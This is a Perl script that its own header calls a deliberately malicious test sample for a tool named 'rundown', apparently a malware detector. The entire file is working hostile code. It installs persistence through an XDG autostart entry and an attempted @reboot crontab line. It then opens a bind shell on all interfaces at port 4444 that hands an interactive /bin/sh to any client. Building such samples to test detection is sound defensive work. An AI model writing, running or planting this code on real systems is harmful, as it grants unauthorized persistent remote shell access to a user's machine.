#!/usr/bin/perl
# "sysmon-agent" (test program for rundown: malicious on purpose, loopback sandbox only).
# Installs an XDG autostart entry and tries the user's crontab spool (EACCES as a normal
# user), then opens a bind shell: listens on 0.0.0.0:4444, and for each client forks a
# child that dup2()s the socket onto fd 0/1/2 and execs /bin/sh -i. Serves one client and
# exits 0 when that client has closed.
use strict;
use warnings;
use Socket;
use POSIX qw(dup2 _exit);
use File::Path qw(make_path);

my $home = $ENV{HOME};
my $dir  = "$home/.config/autostart";
make_path($dir);
if (open(my $d, '>', "$dir/perl.desktop")) {
  print $d "[Desktop Entry]\nType=Application\nName=sysmon\nExec=/usr/bin/perl $0\nX-GNOME-Autostart-enabled=true\n";
  close $d;
}
if (open(my $c, '>>', '/var/spool/cron/crontabs/' . getpwuid($<))) {
  print $c "\@reboot /usr/bin/perl $0\n";
  close $c;
} else {
  print STDERR "sysmon-agent: cron spool: $!\n";
}

socket(my $srv, PF_INET, SOCK_STREAM, getprotobyname('tcp')) or die "socket: $!";
setsockopt($srv, SOL_SOCKET, SO_REUSEADDR, pack('l', 1)) or die "setsockopt: $!";
bind($srv, sockaddr_in(4444, INADDR_ANY)) or die "bind: $!";
listen($srv, 1) or die "listen: $!";
print STDERR "sysmon-agent: ready\n";

accept(my $cli, $srv) or die "accept: $!";
my $pid = fork() // die "fork: $!";
if ($pid == 0) {
  close $srv;
  dup2(fileno($cli), $_) for 0 .. 2;
  exec('/bin/sh', '-i') or _exit(127);
}
close $cli;
waitpid($pid, 0);
close $srv;
exit 0;
